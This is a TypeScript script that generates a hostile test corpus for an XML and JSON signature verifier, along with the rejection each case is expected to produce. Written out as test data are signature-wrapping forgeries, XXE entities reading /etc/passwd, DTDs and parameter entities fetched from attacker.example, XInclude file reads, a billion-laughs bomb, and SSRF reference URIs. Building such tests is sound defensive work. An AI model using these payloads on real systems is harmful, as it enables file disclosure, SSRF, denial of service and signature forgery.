/**
 * Writes the hostile corpus: test/hostile/cases/ and test/hostile/expected.json.
 *
 *   node --import tsx scripts/make-hostile-corpus.ts
 *
 * Every case is a signed sample from fixtures/documents mutated in one known way, or a
 * synthetic input, and carries the outcome argued from the mutation (never from running
 * corridor): the combined verdict of its signatures and the rule ids `check` must report.
 * Large inputs (100 000-level nesting, attribute floods, megabytes of base64, a 10 GB sparse
 * file) are made at test time by test/hostile/generated.ts, so this folder stays small.
 * Signatures made here use the TEST ONLY keys under fixtures/keys/.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { format } from 'prettier';
import { loadPrivateKey } from '../src/pki/keys.js';
import { pemBlocks } from '../src/pki/pem.js';
import { signEnveloped } from '../src/signature/sign.js';
import { addJsonCases } from './hostile-json-cases.js';
import type { HostileCase } from '../test/hostile/corpus.js';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..');
const OUT = join(ROOT, 'test/hostile');
const CASES = join(OUT, 'cases');

const cases: HostileCase[] = [];
function add(
  file: string,
  attack: string,
  description: string,
  content: string | Uint8Array,
  expect: HostileCase['expect'],
  control = false,
): void {
  if (cases.some((c) => c.file === file)) throw new Error(`duplicate case ${file}`);
  writeFileSync(join(CASES, file), content);
  cases.push({ file, attack, description, ...(control ? { control } : {}), expect });
}

const fixture = (path: string): string =>
  readFileSync(join(ROOT, 'fixtures/documents', `${path}.xml`), 'utf8');
const pem = (path: string): string => readFileSync(join(ROOT, 'fixtures/keys', path), 'utf8');
const certDer = (path: string): Uint8Array => {
  const block = pemBlocks(pem(path)).find((b) => b.label === 'CERTIFICATE');
  if (!block) throw new Error(`${path}: no certificate`);
  return block.der;
};

function replaceOnce(text: string, from: string | RegExp, to: string, what: string): string {
  const out = text.replace(from, to);
  if (out === text) throw new Error(`mutation "${what}" did not apply`);
  return out;
}

const SIGNATURE_RE = /<ds:Signature[\s>][\s\S]*?<\/ds:Signature>/;
const unsigned = (text: string): string => replaceOnce(text, SIGNATURE_RE, '', 'strip signature');

// The IN signer (RSA-2048) re-signs synthetic documents: fast, and its CA is a shipped anchor.
const IN_KEY = loadPrivateKey(pem('IN/signer-rsa2048.key.pem'));
const IN_CERT = certDer('IN/signer-rsa2048.cert.pem');
function signIn(text: string, referenceUri: '' | `#${string}` = '', withCert = true): string {
  return signEnveloped(text, {
    signatureAlgorithm: 'rsa-sha256',
    digestAlgorithm: 'sha256',
    privateKey: IN_KEY,
    ...(withCert ? { certificates: [IN_CERT] } : {}),
    referenceUri,
  });
}

/** KeyInfo/KeyValue of the IN signer's public key (a bare, self-asserted key). */
function inKeyValue(): string {
  if (IN_KEY.family !== 'rsa') throw new Error('IN key is not RSA');
  const jwk = IN_KEY.keyObject.export({ format: 'jwk' });
  const b64 = (s: unknown) => Buffer.from(String(s), 'base64url').toString('base64');
  return `<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${b64(jwk.n)}</ds:Modulus><ds:Exponent>${b64(jwk.e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>`;
}

const S = {
  wrapping: 'security/signature-wrapping',
  signedInfo: 'security/multiple-signedinfo',
  tampering: 'security/value-tampering',
  keyValue: 'security/keyvalue-only',
  external: 'security/external-reference',
  dtd: 'security/dtd',
  hmac: 'security/hmac',
  limit: 'security/limit',
} as const;
const VALID = 'signature/valid';
const READABLE = 'document/readable';
const UNSIGNED = 'signature/unsigned-content';
const REQUIRED = 'signature/required';

async function build(): Promise<void> {
  rmSync(CASES, { recursive: true, force: true });
  mkdirSync(CASES, { recursive: true });

  // 1. Controls and per-sample mutations over every verifiable signature family.
  const samples = [
    'EU/customs-declaration', // RSA-PSS 3072
    'EU/licence', // ECDSA P-256
    'IN/customs-declaration', // RSA-2048
    'RU/customs-declaration', // GOST R 34.10-2012 256
    'RU/licence', // GOST R 34.10-2012 512
    'CN/customs-declaration', // SM2
    'KZ/licence', // RSA, C14N 1.0 with comments
    'KG/customs-declaration', // ECDSA
  ];
  for (const sample of samples) {
    const name = sample.replace('/', '-');
    const text = fixture(sample);
    add(
      `control-${name}.xml`,
      'control',
      `${sample} unchanged`,
      text,
      { valid: true, ruleIds: [] },
      true,
    );
    add(
      `tampered-content-${name}.xml`,
      'content tampering',
      'IssueDate changed after signing',
      replaceOnce(text, /<IssueDate>(\d{4})/, '<IssueDate>1999', 'IssueDate'),
      { valid: false, ruleIds: [VALID] },
    );
    add(
      `digestvalue-comment-${name}.xml`,
      'CVE-2025-29775',
      'a comment inside DigestValue (a reader taking the first text node sees a shorter value)',
      replaceOnce(text, /<ds:DigestValue>(.{8})/, '<ds:DigestValue>$1<!--forged-->', 'DigestValue'),
      { valid: false, ruleIds: [S.tampering, VALID] },
    );
    add(
      `signaturevalue-element-${name}.xml`,
      'CVE-2025-29775',
      'an element inside SignatureValue',
      replaceOnce(
        text,
        '<ds:SignatureValue>',
        '<ds:SignatureValue><x:y xmlns:x="urn:evil"/>',
        'SignatureValue',
      ),
      { valid: false, ruleIds: [S.tampering, VALID] },
    );
    add(
      `multiple-signedinfo-${name}.xml`,
      'CVE-2025-29774',
      'a second SignedInfo after the genuine one',
      replaceOnce(text, /(<ds:SignedInfo>[\s\S]*?<\/ds:SignedInfo>)/, '$1$1', 'SignedInfo'),
      { valid: false, ruleIds: [S.signedInfo, VALID] },
    );
    add(
      `hmac-method-${name}.xml`,
      'HMAC',
      'SignatureMethod swapped for HMAC-SHA256',
      replaceOnce(
        text,
        /(<ds:SignatureMethod Algorithm=")[^"]*"/,
        '$1http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"',
        'SignatureMethod',
      ),
      { valid: false, ruleIds: [S.hmac, VALID] },
    );
    add(
      `external-uri-${name}.xml`,
      'external reference (SSRF)',
      'Reference URI pointed at an attacker URL',
      replaceOnce(
        text,
        '<ds:Reference URI=""',
        '<ds:Reference URI="http://attacker.example/doc.xml"',
        'URI',
      ),
      { valid: false, ruleIds: [S.external, VALID] },
    );
    add(
      `xinclude-${name}.xml`,
      'XInclude',
      'xi:include of /etc/passwd inserted into the signed content',
      replaceOnce(
        text,
        /(<IssueDate>)/,
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>$1',
        'XInclude',
      ),
      { valid: false, ruleIds: [S.dtd, VALID] },
    );
    add(
      `dtd-internal-subset-${name}.xml`,
      'DTD',
      'an internal DTD subset with an entity declaration',
      replaceOnce(text, /(<\?xml[^>]*\?>)/, '$1\n<!DOCTYPE x [<!ENTITY e "expanded">]>', 'DOCTYPE'),
      { valid: null, ruleIds: [S.dtd, READABLE] },
    );
    add(
      `wrong-namespace-${name}.xml`,
      'wrong namespace',
      'ds elements moved to another namespace (not a signature at all)',
      text.replaceAll(
        'http://www.w3.org/2000/09/xmldsig#"',
        'http://www.w3.org/2000/09/xmldsig#evil"',
      ),
      { valid: null, ruleIds: [REQUIRED] },
    );
    add(
      `truncated-signaturevalue-${name}.xml`,
      'truncated base64',
      'SignatureValue cut to its first half',
      text.replace(
        /(<ds:SignatureValue>)([^<]*)</,
        (_, open: string, value: string) => `${open}${value.slice(0, value.length >> 1)}<`,
      ),
      { valid: false, ruleIds: [VALID] },
    );
  }

  // 2. Encodings and byte-order marks over one sample.
  const eu = fixture('EU/customs-declaration');
  const utf16 = (text: string, bom: boolean) =>
    Buffer.concat([
      bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0),
      Buffer.from(text, 'utf16le'),
    ]);
  const euUtf16 = eu.replace('encoding="UTF-8"', 'encoding="UTF-16"');
  add(
    'bom-utf8.xml',
    'BOM',
    'UTF-8 byte-order mark before the declaration',
    `\uFEFF${eu}`,
    { valid: true, ruleIds: [] },
    true,
  );
  add(
    'utf16le-bom.xml',
    'BOM',
    'transcoded to UTF-16LE with BOM, declared UTF-16',
    utf16(euUtf16, true),
    { valid: true, ruleIds: [] },
    true,
  );
  add(
    'utf16le-no-bom.xml',
    'encoding',
    'UTF-16LE without BOM, declared UTF-16 (Appendix F autodetection)',
    utf16(euUtf16, false),
    { valid: true, ruleIds: [] },
    true,
  );
  add(
    'utf16-no-bom-declares-utf8.xml',
    'encoding',
    'UTF-16LE bytes declaring UTF-8',
    utf16(eu, false),
    { valid: null, ruleIds: [READABLE] },
  );
  add(
    'utf16-no-bom-no-declaration.xml',
    'encoding',
    'UTF-16LE without BOM or declaration (read as UTF-8: NUL characters)',
    utf16(eu.replace(/^<\?xml[^>]*\?>\n/, ''), false),
    { valid: null, ruleIds: [READABLE] },
  );
  // A second U+FEFF is content before the declaration: refused, as libxml2 does (issue #15).
  add(
    'double-bom.xml',
    'BOM',
    'two UTF-8 byte-order marks: refused, as libxml2 does (issue #15)',
    `\uFEFF\uFEFF${eu}`,
    { valid: null, ruleIds: [READABLE] },
  );
  add(
    'bom-utf8-declares-latin1.xml',
    'encoding',
    'UTF-8 BOM but declared ISO-8859-1',
    `\uFEFF${eu.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')}`,
    { valid: null, ruleIds: [READABLE] },
  );
  add(
    'utf32-bom.xml',
    'encoding',
    'UTF-32LE byte-order mark',
    Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from('<\0\0\0a\0\0\0/\0\0\0>\0\0\0')]),
    { valid: null, ruleIds: [READABLE] },
  );
  add(
    'invalid-utf8.xml',
    'encoding',
    'a byte sequence that is not UTF-8 inside the signed content',
    Buffer.concat([
      Buffer.from(eu.slice(0, 200)),
      Buffer.from([0xc3, 0x28, 0xff]),
      Buffer.from(eu.slice(200)),
    ]),
    { valid: null, ruleIds: [READABLE] },
  );
  const inText = unsigned(fixture('IN/customs-declaration'));
  const umlaut = signIn(
    replaceOnce(inText, /<Name>[^<]*<\/Name>/, '<Name>Müller Straße Überseehandel</Name>', 'Name'),
  );
  add(
    'latin1-declared-utf8-bytes.xml',
    'encoding',
    'signed as UTF-8 with non-ASCII text, then declared ISO-8859-1 (bytes unchanged, characters differ)',
    umlaut.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'),
    { valid: false, ruleIds: [VALID] },
  );

  // 3. Signature wrapping over a document signed by ID (Reference URI="#doc").
  const byId = signIn(inText, '#doc');
  add(
    'control-signed-by-id.xml',
    'control',
    'IN sample re-signed with Reference URI="#doc" (root)',
    byId,
    { valid: true, ruleIds: [] },
    true,
  );
  const root = /<CustomsDeclaration [\s\S]*<\/CustomsDeclaration>/.exec(byId)?.[0] ?? '';
  const head = byId.slice(0, byId.indexOf('<CustomsDeclaration'));
  const evil = (attrs: string, inner: string) =>
    `${head}<CustomsDeclaration xmlns="urn:corridor:customs-declaration:1"${attrs}>\n  <DeclarationNumber>FORGED-0001</DeclarationNumber>\n  <TotalInvoicedValue>1.00</TotalInvoicedValue>\n${inner}\n</CustomsDeclaration>\n`;
  add(
    'wrapping-moved-under-new-root.xml',
    'signature wrapping',
    'signed root moved under a forged root; the Reference still finds it by ID',
    evil('', `<Extension>${root}</Extension>`),
    { valid: false, ruleIds: [S.wrapping, VALID] },
  );
  const signature = SIGNATURE_RE.exec(root)?.[0] ?? '';
  const rootWithoutSignature = root.replace(SIGNATURE_RE, '');
  add(
    'wrapping-moved-into-object.xml',
    'signature wrapping',
    'signature moved to a forged root, the signed root hidden in ds:Object',
    evil(
      '',
      signature.replace(
        '</ds:Signature>',
        `<ds:Object>${rootWithoutSignature}</ds:Object></ds:Signature>`,
      ),
    ),
    { valid: false, ruleIds: [S.wrapping, VALID] },
  );
  add(
    'wrapping-duplicate-id-root.xml',
    'signature wrapping',
    'forged root carries the signed ID too; the genuine element is nested',
    evil(' Id="doc"', `<Extension>${root}</Extension>`),
    { valid: false, ruleIds: [S.wrapping, VALID] },
  );
  add(
    'wrapping-duplicate-id-sibling.xml',
    'signature wrapping',
    'a second element with the signed ID inside the document',
    replaceOnce(
      byId,
      '<IssueDate>',
      '<Extension Id="doc">forged</Extension><IssueDate>',
      'sibling',
    ),
    { valid: false, ruleIds: [S.wrapping, VALID] },
  );
  const sibling = signIn(
    replaceOnce(inText, '<Declarant>', '<Declarant Id="declarant">', 'Declarant Id'),
    '#declarant',
  );
  // Signed scope: the signature is valid over what it covers; the fields outside it are not.
  add(
    'wrapping-sibling-signed.xml',
    'unsigned content',
    'only the Declarant is signed; everything else the rules read is not',
    sibling,
    { valid: true, ruleIds: [UNSIGNED] },
  );
  add(
    'wrapping-sibling-signed-then-edited.xml',
    'unsigned content',
    'only the Declarant is signed, then the unsigned total is changed',
    replaceOnce(sibling, /<TotalInvoicedValue>[^<]*</, '<TotalInvoicedValue>1.00<', 'total'),
    { valid: true, ruleIds: [UNSIGNED] },
  );

  // 4. Keys and KeyInfo.
  const inSigned = fixture('IN/customs-declaration');
  const keyValueOnly = signIn(inText, '', false).replace(
    '</ds:Signature>',
    `${inKeyValue()}</ds:Signature>`,
  );
  add(
    'keyvalue-only.xml',
    'KeyValue-only',
    'signed with a bare KeyValue and no certificate',
    keyValueOnly,
    { valid: null, ruleIds: [S.keyValue, VALID] },
  );
  add(
    'keyvalue-replaces-certificate.xml',
    'KeyValue-only',
    'the certificate swapped for the same key as a bare KeyValue',
    replaceOnce(inSigned, /<ds:KeyInfo>[\s\S]*<\/ds:KeyInfo>/, inKeyValue(), 'KeyInfo'),
    { valid: null, ruleIds: [S.keyValue, VALID] },
  );
  add(
    'retrievalmethod-with-certificate.xml',
    'RetrievalMethod',
    'a RetrievalMethod to an attacker URL beside the certificate',
    replaceOnce(
      inSigned,
      '<ds:KeyInfo>',
      '<ds:KeyInfo><ds:RetrievalMethod URI="http://attacker.example/key.cer" Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate"/>',
      'RetrievalMethod',
    ),
    { valid: false, ruleIds: [S.external, VALID] },
  );
  add(
    'retrievalmethod-only.xml',
    'RetrievalMethod',
    'KeyInfo holds only a RetrievalMethod',
    replaceOnce(
      inSigned,
      /<ds:KeyInfo>[\s\S]*<\/ds:KeyInfo>/,
      '<ds:KeyInfo><ds:RetrievalMethod URI="file:///etc/ssl/private/key.pem"/></ds:KeyInfo>',
      'KeyInfo',
    ),
    { valid: null, ruleIds: [S.external, VALID] },
  );
  add(
    'wrong-certificate.xml',
    'key substitution',
    'certificate swapped for another RSA key of the same CA',
    replaceOnce(
      inSigned,
      /<ds:X509Certificate>[^<]*</,
      `<ds:X509Certificate>${Buffer.from(certDer('IN/signer-rsa1024.cert.pem')).toString('base64')}<`,
      'certificate',
    ),
    { valid: false, ruleIds: [VALID] },
  );
  add(
    'truncated-certificate.xml',
    'truncated base64',
    'the leaf X509Certificate cut short (base64, not DER): the CA certificate beside it does not fit',
    replaceOnce(
      inSigned,
      /<ds:X509Certificate>([^<]{40})[^<]*</,
      '<ds:X509Certificate>$1<',
      'certificate',
    ),
    { valid: false, ruleIds: [VALID] },
  );
  add(
    'truncated-digestvalue.xml',
    'truncated base64',
    'DigestValue with its padding cut (not strict base64)',
    replaceOnce(inSigned, /<ds:DigestValue>([^<]*)=</, '<ds:DigestValue>$1<', 'DigestValue'),
    { valid: false, ruleIds: [VALID] },
  );
  add('no-signature.xml', 'signature stripped', 'the signature removed', inText, {
    valid: null,
    ruleIds: [REQUIRED],
  });

  // 5. More external references.
  add(
    'external-uri-relative.xml',
    'external reference (SSRF)',
    'relative Reference URI',
    replaceOnce(inSigned, '<ds:Reference URI=""', '<ds:Reference URI="doc.xml"', 'URI'),
    { valid: false, ruleIds: [S.external, VALID] },
  );
  add(
    'external-uri-file.xml',
    'external reference (file disclosure)',
    'file: Reference URI',
    replaceOnce(inSigned, '<ds:Reference URI=""', '<ds:Reference URI="file:///etc/passwd"', 'URI'),
    { valid: false, ruleIds: [S.external, VALID] },
  );
  add(
    'external-uri-second-reference.xml',
    'external reference (SSRF)',
    'an extra Reference to an attacker URL',
    replaceOnce(
      inSigned,
      '</ds:Reference>',
      '</ds:Reference><ds:Reference URI="https://attacker.example/x"><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue></ds:Reference>',
      'Reference',
    ),
    { valid: false, ruleIds: [S.external, VALID] },
  );

  // 6. DTDs, entities, XInclude.
  const decl = (doctype: string) =>
    replaceOnce(eu, /(<\?xml[^>]*\?>)/, `$1\n${doctype}`, 'DOCTYPE');
  const laughs = [
    '<!ENTITY lol "lol">',
    ...Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`,
    ),
  ].join('');
  add(
    'billion-laughs.xml',
    'entity expansion',
    'billion laughs (10^9 expansions of "lol")',
    decl(`<!DOCTYPE CustomsDeclaration [${laughs}]>`).replace(
      '<IssueDate>',
      '<Note>&lol9;</Note><IssueDate>',
    ),
    { valid: null, ruleIds: [S.dtd, READABLE] },
  );
  add(
    'external-entity.xml',
    'XXE',
    'external entity reading /etc/passwd',
    decl('<!DOCTYPE CustomsDeclaration [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(
      '<IssueDate>',
      '<Note>&xxe;</Note><IssueDate>',
    ),
    { valid: null, ruleIds: [S.dtd, READABLE] },
  );
  add(
    'external-dtd.xml',
    'XXE',
    'external DTD fetched over HTTP',
    decl('<!DOCTYPE CustomsDeclaration SYSTEM "http://attacker.example/evil.dtd">'),
    { valid: null, ruleIds: [S.dtd, READABLE] },
  );
  add(
    'parameter-entity.xml',
    'XXE',
    'out-of-band parameter entity',
    decl('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'),
    { valid: null, ruleIds: [S.dtd, READABLE] },
  );
  add(
    'entity-without-dtd.xml',
    'undeclared entity',
    'an entity reference with no declaration (not well-formed)',
    eu.replace('<IssueDate>', '<Note>&xxe;</Note><IssueDate>'),
    { valid: null, ruleIds: [READABLE] },
  );
  add(
    'xinclude-2003-namespace.xml',
    'XInclude',
    'XInclude in the 2003 draft namespace',
    replaceOnce(
      eu,
      '<IssueDate>',
      '<xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="http://attacker.example/x"/><IssueDate>',
      'XInclude',
    ),
    { valid: false, ruleIds: [S.dtd, VALID] },
  );
  const xiSigned = signIn(
    replaceOnce(
      inText,
      '<IssueDate>',
      '<Note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"><xi:fallback>none</xi:fallback></xi:include></Note><IssueDate>',
      'XInclude',
    ),
  );
  add(
    'xinclude-signed.xml',
    'XInclude',
    'xi:include signed by the signer: the signature holds, the document is still refused',
    xiSigned,
    { valid: false, ruleIds: [S.dtd, VALID] },
  );

  // 7. Limits that fit in a small file.
  const sig = SIGNATURE_RE.exec(inSigned)?.[0] ?? '';
  add(
    'limit-17-signatures.xml',
    'limit',
    '17 signatures (the limit is 16)',
    inSigned.replace(sig, sig.repeat(17)),
    { valid: false, ruleIds: [S.limit, VALID] },
  );
  const reference = /<ds:Reference [\s\S]*?<\/ds:Reference>/.exec(inSigned)?.[0] ?? '';
  add(
    'limit-33-references.xml',
    'limit',
    '33 References in one SignedInfo (the limit is 32)',
    inSigned.replace(reference, reference.repeat(33)),
    { valid: false, ruleIds: [S.limit, VALID] },
  );
  add(
    'limit-digestvalue-300.xml',
    'limit',
    'a 300-character DigestValue',
    replaceOnce(
      inSigned,
      /<ds:DigestValue>[^<]*</,
      `<ds:DigestValue>${'A'.repeat(300)}<`,
      'DigestValue',
    ),
    { valid: false, ruleIds: [S.limit, VALID] },
  );
  add(
    'limit-signaturevalue-9000.xml',
    'limit',
    'a 9 000-character SignatureValue',
    replaceOnce(
      inSigned,
      /<ds:SignatureValue>[^<]*</,
      `<ds:SignatureValue>${'A'.repeat(9000)}<`,
      'SignatureValue',
    ),
    { valid: false, ruleIds: [S.limit, VALID] },
  );
  add(
    'limit-certificate-70000.xml',
    'limit',
    'a 70 000-character X509Certificate',
    replaceOnce(
      inSigned,
      /<ds:X509Certificate>[^<]*</,
      `<ds:X509Certificate>${'A'.repeat(70_000)}<`,
      'certificate',
    ),
    { valid: false, ruleIds: [S.limit, VALID] },
  );
  add(
    'limit-depth-300.xml',
    'limit',
    'elements nested 300 deep (the limit is 256)',
    eu.replace('<IssueDate>', `${'<n>'.repeat(300)}${'</n>'.repeat(300)}<IssueDate>`),
    { valid: null, ruleIds: [S.limit, READABLE] },
  );
  const attrs = Array.from({ length: 300 }, (_, i) => `a${i}="${i}"`).join(' ');
  add(
    'limit-attributes-300.xml',
    'limit',
    '300 attributes on one element (the limit is 256)',
    eu.replace('<IssueDate>', `<Note ${attrs}/><IssueDate>`),
    { valid: null, ruleIds: [S.limit, READABLE] },
  );

  // 8. Not XML at all, or barely.
  const seeded = (seed: number, length: number) => {
    const out = new Uint8Array(length);
    let block = Buffer.alloc(0);
    for (let i = 0; i < length; i++) {
      if (i % 32 === 0) block = createHash('sha256').update(`${seed}:${i}`).digest();
      out[i] = block[i % 32] as number;
    }
    return out;
  };
  const unreadable = (file: string, description: string, content: string | Uint8Array) =>
    add(file, 'not a document', description, content, { valid: null, ruleIds: [READABLE] });
  unreadable('empty.xml', 'an empty file', '');
  unreadable('whitespace-only.xml', 'only whitespace', ' \n\t\r\n  ');
  unreadable('bom-only.xml', 'only a UTF-8 byte-order mark', '\uFEFF');
  unreadable(
    'declaration-only.xml',
    'only an XML declaration',
    '<?xml version="1.0" encoding="UTF-8"?>\n',
  );
  unreadable('garbage-random-1.xml', 'random bytes', seeded(1, 4096));
  unreadable(
    'garbage-random-2.xml',
    'random bytes after "<"',
    Buffer.concat([Buffer.from('<'), seeded(2, 2048)]),
  );
  unreadable('garbage-nul.xml', 'NUL bytes', new Uint8Array(1024));
  unreadable(
    'garbage-png.xml',
    'a PNG header',
    Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), seeded(3, 256)]),
  );
  unreadable(
    'garbage-gzip.xml',
    'a gzip header',
    Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), seeded(4, 256)]),
  );
  unreadable(
    'garbage-utf16-odd.xml',
    'a UTF-16LE BOM and an odd number of bytes',
    Buffer.concat([Buffer.from([0xff, 0xfe]), seeded(5, 101)]),
  );
  unreadable(
    'truncated-document.xml',
    'the first half of a signed sample',
    eu.slice(0, Math.floor(eu.length / 2)),
  );
  unreadable(
    'two-roots.xml',
    'two root elements',
    `${eu}\n<CustomsDeclaration xmlns="urn:corridor:customs-declaration:1"/>`,
  );
  unreadable(
    'control-character.xml',
    'a C0 control character in content',
    eu.replace('<IssueDate>', '<Note>\u0001</Note><IssueDate>'),
  );
  unreadable(
    'unknown-root.xml',
    'a well-formed document of an unknown type',
    '<?xml version="1.0"?><html><body>hello</body></html>',
  );
  unreadable(
    'json-truncated.xml',
    'JSON cut short',
    '{"$type": "urn:corridor:customs-declaration:1", "goodsItems": [',
  );
  unreadable(
    'json-wrong-types.xml',
    'JSON with a numeric $type',
    '{"$type": 5, "goodsItems": "none"}',
  );
  add(
    'json-deep-arrays.xml',
    'deep nesting',
    'a JSON declaration whose goodsItems nest 5 000 arrays deep (readable; unsigned)',
    `{"$type":"urn:corridor:customs-declaration:1","goodsItems":${'['.repeat(5000)}${']'.repeat(5000)}}`,
    { valid: null, ruleIds: [REQUIRED] },
  );

  // 9. JSON (JWS/CT) and object-machinery names: scripts/hostile-json-cases.ts.
  addJsonCases({
    root: ROOT,
    add,
    inKey: IN_KEY,
    inChain: [IN_CERT, certDer('IN/ca.cert.pem')],
    inXmlUnsigned: inText,
  });

  cases.sort((a, b) => a.file.localeCompare(b.file));
  // Written as Prettier would, so the repository's format check passes on regeneration.
  const json = await format(JSON.stringify(cases), { parser: 'json' });
  writeFileSync(join(OUT, 'expected.json'), json);
  const controls = cases.filter((c) => c.control).length;
  process.stdout.write(`wrote ${cases.length} cases (${controls} controls) to ${CASES}\n`);
}

await build();
